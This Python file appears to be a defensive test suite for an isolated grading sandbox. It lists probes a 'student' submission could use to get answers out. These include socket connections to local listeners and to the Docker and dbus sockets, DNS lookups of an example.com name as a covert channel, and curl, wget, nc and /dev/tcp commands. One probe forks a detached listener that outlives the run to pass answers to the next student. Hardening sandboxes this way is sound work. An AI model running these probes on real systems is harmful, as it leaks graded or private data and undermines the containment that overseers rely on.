"""Talk to the outside: other students, a friend, the internet."""

from attacks import Attack, in_call, in_cell

TCP = """
import socket

def send(family, kind, address):
    with socket.socket(family, kind) as out:
        out.settimeout(1)
        if kind == socket.SOCK_STREAM:
            out.connect(address)
            out.sendall(b"the answers")
        else:
            out.sendto(b"the answers", address)
"""

ATTACKS: list[Attack] = [
    in_cell(
        "tcp",
        "Connect to a listener on this machine, by several of its names.",
        """
        for host in ("127.0.0.1", "localhost", "0.0.0.0", "127.0.0.2"):
            attempt("tcp " + host, lambda: send(socket.AF_INET, socket.SOCK_STREAM, (host, @PORT@)))
        for host in ("::1", "::ffff:127.0.0.1"):
            attempt("tcp " + host, lambda: send(socket.AF_INET6, socket.SOCK_STREAM, (host, @PORT@)))
        """,
        before=TCP,
    ),
    in_cell(
        "udp",
        "Send a datagram to a listener on this machine, and one to everybody.",
        """
        with contextlib.suppress(OSError):
            send(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", @PORT@))
        attempt("far", lambda: send(socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 53)))
        attempt("multicast", lambda: send(socket.AF_INET, socket.SOCK_DGRAM, ("224.0.0.1", 9999)))
        """,
        before=TCP,
    ),
    in_cell(
        "unix socket with an abstract name",
        "Connect to an abstract socket, which has no place in the file system.",
        """
        attempt("abstract",
                lambda: send(socket.AF_UNIX, socket.SOCK_STREAM, "\\0" + "@ABSTRACT@"))
        with contextlib.suppress(OSError):
            names = open("/proc/net/unix").read().split()
            loot("names", [name for name in names if name.startswith("@")])
        """,
        before=TCP,
    ),
    in_cell(
        "unix socket with a path",
        "Connect to sockets in the file system: a listener's, and those of services.",
        """
        for path in ("@PATH@", "/run/dbus/system_bus_socket", "/var/run/docker.sock",
                     "/run/systemd/notify", "/tmp/.X11-unix/X0", "/var/run/nscd/socket", "/dev/log"):
            attempt(path, lambda: send(socket.AF_UNIX, socket.SOCK_STREAM, path))
        """,
        before=TCP,
    ),
    in_cell(
        "names",
        "Ask for a name's address: the question itself can carry an answer.",
        """
        socket.setdefaulttimeout(1)
        attempt("resolve", lambda: socket.getaddrinfo("the-answers.example.com", 80))
        attempt("resolve", lambda: socket.gethostbyname("example.org"))
        """,
        before=TCP,
    ),
    in_cell(
        "raw sockets",
        "Open sockets of every family that might lead out.",
        """
        attempt("icmp", lambda: send(socket.AF_INET, socket.SOCK_RAW, ("127.0.0.1", 1)))
        attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3))
        attempt("vsock", lambda: send(socket.AF_VSOCK, socket.SOCK_STREAM, (2, @PORT@)))
        with contextlib.suppress(OSError):
            print(socket.if_nameindex())
            if any(name != "lo" for _, name in socket.if_nameindex()):
                print("attack worked: an interface that leads out")
        """,
        before=TCP,
    ),
    in_cell(
        "socket families",
        "Make a socket, or a pair, of every family that a kernel may know: some reach the host.",
        """
        for family in range(2, 46):
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW,
                         socket.SOCK_SEQPACKET):
                for make in (socket.socket, socket.socketpair):
                    with contextlib.suppress(OSError):
                        make(family, kind)
                        print("attack worked: a socket of family", family, kind, make.__name__)
        """,
        before=TCP,
    ),
    in_cell(
        "waiting for others",
        "Bind and listen, where others could come; a pair of one's own must remain possible.",
        """
        one, other = socket.socketpair()
        one.sendall(b"x")
        assert other.recv(1) == b"x"
        attempt("a socket", lambda: socket.socket(socket.AF_UNIX))
        attempt("bind", lambda: one.bind("/tmp/left"))
        attempt("listen", lambda: other.listen())
        """,
        before=TCP,
    ),
    in_cell(
        "libraries",
        "Fetch a page with the standard library and with programs.",
        """
        import subprocess, urllib.request

        url = "http://127.0.0.1:@PORT@/"
        attempt("urllib", lambda: urllib.request.urlopen(url, timeout=1))
        for program in ("curl -m 1 -s", "wget -T 1 -q", "nc -w 1 127.0.0.1 @PORT@ #"):
            subprocess.run(f"{program} {url} < /dev/null", shell=True, timeout=5,
                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        subprocess.run(["bash", "-c", "echo x > /dev/tcp/127.0.0.1/@PORT@"], stderr=subprocess.DEVNULL)
        """,
        before=TCP,
    ),
    in_cell(
        "inherited sockets",
        "Use sockets that are already open: connect them elsewhere, listen on them.",
        """
        import stat

        for fd in range(3, 64):
            with contextlib.suppress(OSError):
                if stat.S_ISSOCK(os.fstat(fd).st_mode):
                    with socket.socket(fileno=os.dup(fd)) as other:
                        name = other.getsockname(), other.getpeername()
                        print(fd, name)
                        attempt(f"connect {fd}", lambda: other.connect("\\0" + "@ABSTRACT@"))
                        attempt(f"listen on {fd}", lambda: other.listen())
        """,
        before=TCP,
    ),
    in_call(
        "in a call",
        "Connect while the tests call the answer.",
        """
        for family, address in ((socket.AF_INET, ("127.0.0.1", @PORT@)),
                                (socket.AF_UNIX, "\\0" + "@ABSTRACT@")):
            attempt("connect", lambda: send(family, socket.SOCK_STREAM, address))
        """,
        before=TCP,
    ),
    in_cell(
        "next student",
        "Listen for the next student, and look for what the last one left.",
        """
        if os.fork() == 0:
            with contextlib.suppress(OSError):
                os.setsid()
                left = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                left.bind(("127.0.0.1", 47211))
                left.listen()
                left.accept()
            os._exit(0)
        """,
        before=TCP,
    ),
    in_cell(
        "next student answers",
        "Connect to what a student before this one left.",
        """
        attempt("a student's listener",
                lambda: send(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 47211)))
        attempt("a student's socket", lambda: send(
            socket.AF_UNIX, socket.SOCK_STREAM, "\\0left-by-another-student"))
        """,
        before=TCP,
    ),
]
